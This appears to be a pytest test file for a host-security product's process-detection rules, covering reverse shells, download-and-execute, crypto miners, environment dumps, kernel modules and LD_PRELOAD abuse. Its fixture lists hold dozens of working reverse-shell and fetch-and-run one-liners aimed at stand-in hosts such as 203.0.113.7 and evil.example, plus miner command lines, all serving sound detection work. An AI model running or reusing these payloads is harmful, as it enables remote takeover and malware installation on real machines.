"""The process rules' helpers: command-line reading, and the judgements the rules make on it.

Command lines come in two shapes: the layer's exact argv, and the joined command lines of
Falco, osquery and Tetragon (quotes lost, except Tetragon's). Both are tested here through
the same entry point the rules use (``_programs.view``).
"""

from __future__ import annotations

import pytest

from collectors.model import (
    Actor,
    Cloud,
    Device,
    File,
    FileActivity,
    Metadata,
    Process,
    ProcessActivity,
    Product,
)
from collectors.rules.engine import Engine, builtin
from collectors.rules.pack import _programs as P

_DEVICE = Device(type_id=1, type="Server", uid="ip-10-0-0-1", hostname="ip-10-0-0-1")


def launch(
    cmdline: str,
    *,
    exe: str = "",
    parent: str = "",
    parent_cmd: str = "",
    product: str = "Falco",
    argv: list[str] | None = None,
    time: int = 1_700_000_000_000,
) -> ProcessActivity:
    pp = Process(uid="p", name=parent, cmd_line=parent_cmd or None) if parent else None
    proc = Process(
        uid=f"x{time}",
        cmd_line=cmdline,
        file=File(name=P.base(exe), path=exe) if exe else None,
        parent_process=pp,
    )
    return ProcessActivity(
        activity_id=1,
        time=time,
        metadata=Metadata(product=Product(name=product, vendor_name="t")),
        cloud=Cloud(),
        actor=Actor(process=pp),
        device=_DEVICE,
        process=proc,
        unmapped={"argv": argv} if argv is not None else None,
    )


def view(cmdline: str, **kw: object) -> P.ProcView:
    source = "layer" if kw.get("argv") is not None else "falco"
    if source == "layer":
        kw.setdefault("product", "Ramparts")
    v = P.view(launch(cmdline, **kw), source)  # type: ignore[arg-type]
    assert v is not None
    return v


# -- the tokeniser ----------------------------------------------------------------------------
def test_tokenize_quotes_pipelines_and_redirections() -> None:
    cmds = P.tokenize("""FOO=1 a 'b c' "d $x" | e 2>&1 >/tmp/o; f && g""")
    assert [c.argv for c in cmds] == [["a", "b c", "d $x"], ["e"], ["f"], ["g"]]
    assert cmds[0].assigns == {"FOO": "1"}
    assert cmds[0].pipeline == cmds[1].pipeline != cmds[2].pipeline != cmds[3].pipeline
    assert cmds[1].redirects == [("2>&", "1"), (">", "/tmp/o")]


def test_tokenize_substitutions_feed_the_shell() -> None:
    cmds = P.tokenize('sh -c "$(curl -fsSL https://x.example/i.sh)"; diff <(curl a) b')
    curl = [c for c in cmds if c.name == "curl"]
    assert curl[0].substituted and curl[0].shell_arg
    assert curl[1].substituted and not curl[1].shell_arg  # diff is not a shell


def test_expand_sees_through_launchers_busybox_and_sh_c() -> None:
    v = view("", argv=["nohup", "timeout", "5", "busybox", "sh", "-c", "env | nc h 1"])
    assert {"nohup", "timeout", "sh", "env", "nc"} <= {c.name for c in v.commands}


@pytest.mark.parametrize(
    ("word", "name"),
    [
        ("/usr/bin/python3.11", "python"),
        ("php-fpm8.2", "php-fpm"),
        ("-bash", "bash"),
        ("/usr/bin/nodejs", "node"),
        ("/memfd:x (deleted)", "memfd:x"),
        ("GET", "GET"),
        ("/usr/bin/sha256sum", "sha256sum"),
    ],
)
def test_prog_name(word: str, name: str) -> None:
    assert P.prog_name(word) == name


# -- reverse shells ---------------------------------------------------------------------------
REVERSE = [
    "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "bash -c bash -i >& /dev/tcp/203.0.113.7/4444 0>&1",
    "bash -c 'bash &>/dev/tcp/203.0.113.7/4444 <&1'",
    "sh -i 5<> /dev/tcp/203.0.113.7/4444 0<&5 1>&5 2>&5",
    "0<&196;exec 196<>/dev/tcp/203.0.113.7/4444; sh <&196 >&196 2>&196",
    "exec 5<>/dev/tcp/203.0.113.7/4444;cat <&5 | while read line; do $line 2>&5 >&5; done",
    "/bin/bash -l > /dev/tcp/203.0.113.7/4444 0<&1 2>&1",
    "sh -i >& /dev/udp/203.0.113.7/4444 0>&1",
    "rm /tmp/f;mkfifo /tmp/f;cat /tmp/f|/bin/sh -i 2>&1|nc 203.0.113.7 4444 >/tmp/f",
    "sh -c rm -f /tmp/p; mknod /tmp/p p && telnet 203.0.113.7 4444 0</tmp/p | /bin/sh 1>/tmp/p",
    "nc -e /bin/sh 203.0.113.7 4444",
    "nc 203.0.113.7 4444 -e /bin/bash",
    "nc -nve /bin/sh 203.0.113.7 4444",
    "nc.traditional -e/bin/sh 203.0.113.7 4444",
    "ncat 203.0.113.7 4444 -e /bin/bash",
    "ncat --exec /bin/sh 203.0.113.7 4444",
    "ncat --sh-exec 'bash -i' 203.0.113.7 4444",
    "busybox nc 203.0.113.7 4444 -e sh",
    "nc -lvnp 4444 -e /bin/bash",
    "socat exec:'bash -li',pty,stderr,setsid,sigint,sane tcp:203.0.113.7:4444",
    "socat TCP:203.0.113.7:4444 EXEC:/bin/sh",
    "socat OPENSSL:203.0.113.7:443,verify=0 SYSTEM:'bash -i'",
    "telnet 203.0.113.7 4444 | /bin/sh | telnet 203.0.113.7 4445",
    "mkfifo /tmp/s; /bin/sh -i < /tmp/s 2>&1 | openssl s_client -quiet -connect 203.0.113.7:4444 > /tmp/s",
    "python3 -c 'import socket,subprocess,os;s=socket.socket(socket.AF_INET,socket.SOCK_STREAM);"
    's.connect(("203.0.113.7",4444));os.dup2(s.fileno(),0);os.dup2(s.fileno(),1);'
    'subprocess.call(["/bin/sh","-i"])\'',
    "python3 -c import socket,os,pty;s=socket.socket();s.connect((203.0.113.7,4444));"
    "[os.dup2(s.fileno(),f)for f in(0,1,2)];pty.spawn(/bin/sh)",
    "python -c 'import pty; pty.spawn(\"/bin/bash\")'",
    'perl -e \'use Socket;$i="203.0.113.7";$p=4444;socket(S,PF_INET,SOCK_STREAM,getprotobyname'
    '("tcp"));if(connect(S,sockaddr_in($p,inet_aton($i)))){open(STDIN,">&S");exec("/bin/sh -i");};\'',
    'perl -MIO -e \'$p=fork;exit,if($p);$c=new IO::Socket::INET(PeerAddr,"203.0.113.7:4444");'
    "STDIN->fdopen($c,r);$~->fdopen($c,w);system$_ while<>;'",
    'php -r \'$sock=fsockopen("203.0.113.7",4444);exec("/bin/sh -i <&3 >&3 2>&3");\'',
    'php -r \'$s=fsockopen("203.0.113.7",4444);$proc=proc_open("/bin/sh -i", array(0=>$s, '
    "1=>$s, 2=>$s),$pipes);'",
    'ruby -rsocket -e\'f=TCPSocket.open("203.0.113.7",4444).to_i;exec sprintf("/bin/sh -i '
    "<&%d >&%d 2>&%d\",f,f,f)'",
    'node -e \'var net=require("net"),cp=require("child_process"),sh=cp.spawn("/bin/sh",[]);'
    'var c=new net.Socket();c.connect(4444,"203.0.113.7",function(){c.pipe(sh.stdin);'
    "sh.stdout.pipe(c);});'",
    'awk \'BEGIN {s = "/inet/tcp/0/203.0.113.7/4444"; while(42) { do{ printf "shell>" |& s; '
    "s |& getline c; if(c){ while ((c |& getline) > 0) print $0 |& s; close(c); } } "
    'while(c != "exit") close(s); }}\' /dev/null',
    "lua -e \"require('socket');require('os');t=socket.tcp();t:connect('203.0.113.7','4444');"
    "os.execute('/bin/sh -i <&3 >&3 2>&3');\"",
    "zsh -c 'zmodload zsh/net/tcp && ztcp 203.0.113.7 4444 && zsh >&$REPLY 2>&$REPLY 0>&$REPLY'",
    "pwsh -c \"$client = New-Object System.Net.Sockets.TCPClient('203.0.113.7',4444);"
    '$stream = $client.GetStream();iex $data"',
    "sudo -u www-data bash -c 'bash -i >& /dev/tcp/203.0.113.7/4444 0>&1'",
    "nohup setsid sh -c 'sh -i >& /dev/tcp/2001:db8::7/4444 0>&1' &",
    "node -e \"require('child_process').exec('nc -e /bin/sh 203.0.113.7 4444')\"",
    "python3 -c \"import os; os.system('bash -i >& /dev/tcp/203.0.113.7/4444 0>&1')\"",
    "bash -c 'exec bash -i &>/dev/tcp/203.0.113.7/4444 <&1'",
    "/bin/sh | nc 203.0.113.7 4444",
    "ncat -c bash 203.0.113.7 4444",
]
NOT_REVERSE = [
    "bash -c 'echo > /dev/tcp/db/5432' >/dev/null 2>&1",
    "timeout 1 bash -c 'cat < /dev/null > /dev/tcp/db.internal/5432'",
    "nc -z -w 2 db 5432",
    "nc -lvnp 8080",
    "echo ok | nc -q1 metrics.internal 2003",
    "socat TCP-LISTEN:8080,fork TCP:backend:80",
    "python3 -c 'import socket; print(socket.gethostname())'",
    "python3 -c 'import subprocess; subprocess.run([\"ls\"])'",
    "curl -fsSL https://get.docker.com | sh",
    "ssh -R 2222:localhost:22 user@bastion",
    'php -r \'echo fsockopen("db",3306) ? "up" : "down";\'',
    "awk '{print $1}' /var/log/nginx/access.log",
    "openssl s_client -connect example.com:443 </dev/null",
    "grep -r 'bash -i >& /dev/tcp' /var/log",
]


@pytest.mark.parametrize("cmd", REVERSE)
def test_reverse_shells(cmd: str) -> None:
    assert P.reverse_shell(view(cmd)) is not None, cmd


@pytest.mark.parametrize("cmd", NOT_REVERSE)
def test_not_reverse_shells(cmd: str) -> None:
    assert P.reverse_shell(view(cmd)) is None, cmd


def test_reverse_shell_destination_and_layer_argv() -> None:
    v = view("", argv=["/bin/sh", "-c", "wc -c 'x'; sh -i >& /dev/tcp/203.0.113.7/4444 0>&1 #'"])
    assert P.reverse_shell(v) == ("dev-tcp", "203.0.113.7:4444")
    assert P.reverse_shell(view("nc -e /bin/sh 203.0.113.7 4444")) == (
        "netcat-exec",
        "203.0.113.7:4444",
    )


# -- download and execute -----------------------------------------------------------------------
DOWNLOAD_EXEC = [
    "curl -fsSL https://evil.example/x.sh | sh",
    "curl -s http://203.0.113.7/x | bash -s -- --silent",
    "wget -qO- http://203.0.113.7/i.sh | bash",
    "wget -q http://203.0.113.7/k.sh -O- | sh",
    "curl -s http://x.example/a | sudo bash",
    "curl -sL http://203.0.113.7/p.py | python3 -",
    "curl http://203.0.113.7/p.pl | perl",
    "busybox wget -O- http://203.0.113.7/b | sh",
    "GET http://203.0.113.7/s | sh",
    'sh -c "$(curl -fsSL https://raw.example/install.sh)"',
    'bash -c "$(wget -qO- http://203.0.113.7/e)"',
    "bash <(curl -s https://x.example/y)",
    "source <(curl -s https://x.example/y)",
    'eval "$(wget -qO- http://203.0.113.7/e)"',
    'python3 -c "$(curl -s http://203.0.113.7/p.py)"',
    "curl -o /tmp/x http://203.0.113.7/x && chmod +x /tmp/x && /tmp/x",
    "curl -sLo /tmp/.d http://203.0.113.7/d; chmod 755 /tmp/.d; nohup /tmp/.d &",
    "cd /tmp; wget http://203.0.113.7/bot; chmod +x bot; ./bot",
    "wget http://203.0.113.7/x.sh -O /tmp/x.sh; sh /tmp/x.sh",
    "busybox wget http://203.0.113.7/b -O /tmp/b; chmod 777 /tmp/b; /tmp/b",
    "curl -LO http://203.0.113.7/kinsing && sh kinsing",
    "tftp -g -r bot 203.0.113.7; chmod +x bot; ./bot",
    "bash -c curl -s 203.0.113.7/x|bash",
    "python3 -c \"import urllib.request;exec(urllib.request.urlopen('http://203.0.113.7/p').read())\"",
    "python3 -c \"import requests,os;open('/tmp/a','wb').write(requests.get('http://h/a').content);"
    "os.chmod('/tmp/a',0o755);os.system('/tmp/a')\"",
    "perl -MLWP::Simple -e 'eval(get(\"http://203.0.113.7/p\"))'",
    "php -r 'eval(file_get_contents(\"http://203.0.113.7/p\"));'",
    "ruby -ropen-uri -e 'eval(URI.open(\"http://203.0.113.7/p\").read)'",
    "node -e \"require('https').get('https://203.0.113.7/p',r=>{let d='';r.on('data',c=>d+=c);"
    "r.on('end',()=>eval(d))})\"",
    "pwsh -c \"IEX(New-Object Net.WebClient).DownloadString('http://203.0.113.7/p.ps1')\"",
    "python3 -c \"import os; os.system('curl -s http://x.example/a | sh')\"",
    "php -r \"system('wget http://203.0.113.7/x -O /tmp/x; chmod +x /tmp/x; /tmp/x');\"",
]
NOT_DOWNLOAD_EXEC = [
    "curl -sL https://example.com/a.tar.gz | tar xz -C /opt",
    "curl -s https://api.example.com/v | jq .version",
    "curl -s https://api.example.com/v | python3 -c 'import sys,json; print(json.load(sys.stdin))'",
    "wget https://example.com/file.zip -O /tmp/f.zip && unzip /tmp/f.zip",
    "curl -o /tmp/pkg.deb https://example.com/pkg.deb && dpkg -i /tmp/pkg.deb",
    "diff <(curl -s https://a.example/x) <(curl -s https://b.example/x)",
    "sh ./configure --prefix=/usr",
    "curl -fsS https://hc-ping.com/abc",
    "curl -s https://example.com/data.json -o /tmp/data.json && python3 /opt/app/load.py",
    "python3 -c \"import urllib.request; print(urllib.request.urlopen('https://x').status)\"",
    "echo 'curl http://x | sh' >> /tmp/notes.txt",
]


@pytest.mark.parametrize("cmd", DOWNLOAD_EXEC)
def test_download_and_execute(cmd: str) -> None:
    assert P.download_execute(view(cmd)) is not None, cmd


@pytest.mark.parametrize("cmd", NOT_DOWNLOAD_EXEC)
def test_not_download_and_execute(cmd: str) -> None:
    assert P.download_execute(view(cmd)) is None, cmd


def test_download_execute_groups_by_host() -> None:
    assert P.download_execute(view("curl -fsSL https://Evil.Example/x | sh")) == (
        "pipe",
        "evil.example",
    )


# -- miners, environment, modules, loader variables ------------------------------------------------
WALLET = "4AdUndXHHZ6cfufTMvppY6JwXNouMBzSkbLYfpAV5Usx3skxNgYeYTRj5UzqtReoS44qo9mtmXCqY45DJ852K5Jv2684Rge"


@pytest.mark.parametrize(
    "cmd",
    [
        "xmrig -o pool.supportxmr.com:443 --tls",
        "/tmp/xmrig-6.21.0/xmrig --config=config.json",
        "./xmr-stak-rx --noTest",
        "cpuminer-opt -a yespower -o stratum+tcp://198.51.100.9:6234",
        "/usr/bin/minerd -a scrypt -o stratum+tcp://198.51.100.9:3333 -u w -p x",
        "PhoenixMiner -pool eth.2miners.com:2020 -wal 0xabc",
        "t-rex -a kawpow -o stratum+ssl://rvn.2miners.com:16060",
        "kswapd0 -o 198.51.100.9:3333 --donate-level 1",
        "./systemd-helper -a rx/0 -o pool.hashvault.pro:443",
        "./x --coin monero -o 198.51.100.9:80",
        f"./x -o 198.51.100.9:10128 -u {WALLET} -p w",
        "nohup ./bin -o stratum2+tcp://198.51.100.9:3333 &",
    ],
)
def test_crypto_miners(cmd: str) -> None:
    assert P.crypto_miner(view(cmd)) is not None, cmd


@pytest.mark.parametrize(
    "cmd",
    [
        "grep -r xmrig /var/log",
        "pkill -9 -f xmrig",
        "python3 train.py -a adam -o /models/out",
        "pgbouncer -o pool_mode=transaction",
        "docker run --rm nginx",
        "echo stratum+tcp://x >> /tmp/notes",
    ],
)
def test_not_crypto_miners(cmd: str) -> None:
    assert P.crypto_miner(view(cmd)) is None, cmd


@pytest.mark.parametrize(
    ("cmd", "what"),
    [
        ("env", "env"),
        ("env -0", "env"),
        ("printenv", "printenv"),
        ("printenv AWS_SESSION_TOKEN", "printenv"),
        ("sh -c env | grep -i aws", "env"),
        ("cat /proc/self/environ", "/proc/*/environ"),
        ("strings /proc/1/environ", "/proc/*/environ"),
        ("tr '\\0' '\\n' < /proc/thread-self/environ", "/proc/*/environ"),
        ("python3 -c \"print(open('/proc/self/environ').read())\"", "/proc/*/environ"),
        ("/usr/bin/env python3 app.py", None),
        ("env -i PATH=/bin sh -c true", None),
        ("env LANG=C sort", None),
        ("ls /proc/self", None),
        ("cat /etc/environment", None),
    ],
)
def test_environment_dump(cmd: str, what: str | None) -> None:
    assert P.environment_dump(view(cmd)) == what


@pytest.mark.parametrize(
    ("cmd", "expected"),
    [
        ("insmod /tmp/rk.ko", ("load", "/tmp/rk.ko")),
        ("modprobe nf_conntrack", ("load", "nf_conntrack")),
        ("modprobe -a dummy bonding", ("load", "dummy")),
        ("rmmod rk", ("unload", "rk")),
        ("modprobe -r dummy", ("unload", "dummy")),
        ("modprobe -rv dummy", ("unload", "dummy")),
        ("kmod insmod /tmp/x.ko", ("load", "/tmp/x.ko")),
        ("sudo modprobe overlay", ("load", "overlay")),
        ("modprobe --show-depends ext4", None),
        ("modprobe -n -v overlay", None),
        ("modprobe -c", None),
        ("modprobe --resolve-alias net-pf-10", None),
        ("lsmod", None),
        ("modinfo ext4", None),
        ("kmod list", None),
    ],
)
def test_module_operation(cmd: str, expected: tuple[str, str] | None) -> None:
    assert P.module_operation(view(cmd)) == expected


@pytest.mark.parametrize(
    ("var", "value", "suspicious"),
    [
        ("LD_PRELOAD", "/tmp/x.so", True),
        ("LD_PRELOAD", "/dev/shm/.l.so", True),
        ("LD_PRELOAD", "/usr/lib/x86_64-linux-gnu/libprocesshider.so", True),
        ("LD_PRELOAD", "./evil.so", True),
        ("LD_PRELOAD", "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2", False),
        ("LD_PRELOAD", "libtcmalloc_minimal.so.4", False),
        ("LD_PRELOAD", "/tmp/libjemalloc.so.2", True),
        ("LD_PRELOAD", "", False),
        ("LD_AUDIT", "/var/tmp/a.so", True),
        ("LD_LIBRARY_PATH", "/opt/app/lib:/usr/lib", False),
        ("LD_LIBRARY_PATH", "/opt/lib:/tmp/.x", True),
    ],
)
def test_loader_values(var: str, value: str, suspicious: bool) -> None:
    assert P.loader_value_suspicious(var, value) is suspicious


def test_loader_assignments_from_prefixes_env_and_export() -> None:
    assert P.loader_assignments(view("LD_PRELOAD=/tmp/x.so ls")) == [("LD_PRELOAD", "/tmp/x.so")]
    assert P.loader_assignments(view("env LD_AUDIT=/tmp/a.so /bin/true")) == [
        ("LD_AUDIT", "/tmp/a.so")
    ]
    assert P.loader_assignments(view("bash -c export LD_PRELOAD=/dev/shm/l.so; id")) == [
        ("LD_PRELOAD", "/dev/shm/l.so")
    ]
    assert P.preload_file_write(view("sh -c echo /tmp/r.so > /etc/ld.so.preload"))
    assert P.preload_file_write(view("sh -c 'echo /tmp/r.so | tee -a /etc//ld.so.preload'"))
    assert not P.preload_file_write(view("cat /etc/ld.so.preload"))


# -- paths and parents ----------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("path", "where"),
    [
        ("/tmp/x", "/tmp"),
        ("//tmp//.x/y", "/tmp"),
        ("/var/tmp/../tmp/x", "/var/tmp"),
        ("/opt/../tmp/x", "/tmp"),
        ("/dev/shm/a", "/dev/shm"),
        ("/run/user/1000/x", "/run/user/1000"),
        ("/dev/mqueue/x", "/dev/mqueue"),
        ("/memfd:payload (deleted)", "memfd"),
        ("/tmpdata/bin/x", None),
        ("/var/tmpfs/x", None),
        ("/run/user/x", None),
        ("/usr/bin/tmp", None),
    ],
)
def test_writable_dir(path: str, where: str | None) -> None:
    assert P.writable_dir(path) == where


@pytest.mark.parametrize(
    ("name", "cmd", "web"),
    [
        ("nginx", "nginx: worker process", True),
        ("php-fpm8.2", "php-fpm: pool www", True),
        ("httpd", "", True),
        ("java", "java -jar /app/service.jar", True),
        (
            "java",
            "java -cp gradle-launcher.jar org.gradle.launcher.daemon.bootstrap.GradleDaemon",
            False,
        ),
        ("java", "java -jar /var/jenkins/agent.jar", False),
        ("node", "node /srv/app/server.js", True),
        ("node", "node /usr/bin/npm run build", False),
        ("python3", "/usr/bin/python3 /usr/local/bin/gunicorn app:app", True),
        ("python3", "/usr/bin/python3 /opt/backup.py", False),
        ("ruby", "puma 6.4.0 (tcp://0.0.0.0:3000) [app]", True),
        ("ruby", "ruby /opt/scripts/report.rb", False),
        ("make", "make all", False),
        ("", "", False),
    ],
)
def test_web_parent(name: str, cmd: str, web: bool) -> None:
    parent = P.Parent(name=P.prog_name(name), cmdline=cmd)
    assert (P.web_parent(parent) is not None) is web


# -- the stateful rule's bounds ----------------------------------------------------------------
def _write(path: str, time: int) -> FileActivity:
    return FileActivity(
        activity_id=FileActivity.CREATE,
        time=time,
        metadata=Metadata(product=Product(name="Tetragon", vendor_name="Cilium")),
        cloud=Cloud(),
        actor=Actor(process=Process(uid="w", name="cp", file=File(name="cp", path="/usr/bin/cp"))),
        device=_DEVICE,
        file=File(name=P.base(path), path=path),
    )


def _exec(path: str, time: int) -> ProcessActivity:
    ev = launch(path, exe=path, parent="sh", time=time)
    ev.metadata.product = Product(name="Tetragon", vendor_name="Cilium")
    return ev


def test_write_then_exec_state_is_bounded_and_pruned() -> None:
    engine = Engine(builtin().only(["process.write-then-exec"]))
    t0 = 1_700_000_000_000
    events: list[FileActivity | ProcessActivity] = [
        _write(f"/tmp/f{i}", t0 + i) for i in range(600)
    ]
    alerts = engine.run(events)
    assert alerts == []
    state = engine.state.load("process.write-then-exec", "host:ip-10-0-0-1")  # type: ignore[attr-defined]
    assert len(state["w"]) <= 256
    # the newest writes are kept: running one fires, running an evicted one does not
    fired = engine.run([_exec("/tmp/f599", t0 + 1000), _exec("/tmp/f0", t0 + 1001)])
    assert [a.key for a in fired] == ["/tmp/f599"]
    # past the window the write is forgotten
    late = engine.run([_exec("/tmp/f598", t0 + 16 * 60 * 1000)])
    assert late == []
    assert engine.state.load("process.write-then-exec", "host:ip-10-0-0-1") == {}  # type: ignore[attr-defined]


def test_strings_in_code_are_commands_only_when_the_code_runs_them() -> None:
    ran = view(
        "python3 -c \"import subprocess; subprocess.run('curl -s https://x | sh', shell=True)\""
    )
    assert "curl" in P.network_tools_run(ran)
    printed = view("python3 -c \"print('curl is a tool: curl -s https://x | sh')\"")
    assert P.network_tools_run(printed) == []
    assert P.download_execute(printed) is None


def test_shells_through_launchers_and_nested_strings() -> None:
    assert P.launched_shell(view("sh -c id", exe="/usr/bin/dash")) == "sh"
    assert P.launched_shell(view("busybox sh -c id", exe="/bin/busybox")) == "sh"
    assert P.launched_shell(view("python3 -c 'import os'")) is None
    assert P.network_tools_run(view("sha256sum /tmp/a")) == []
    assert P.network_tools_run(view("openssl dgst -sha256 /tmp/a")) == []
    assert P.network_tools_run(view("openssl s_client -connect h:443")) == ["openssl"]
    assert P.network_tools_run(view("host example.com")) == ["host"]
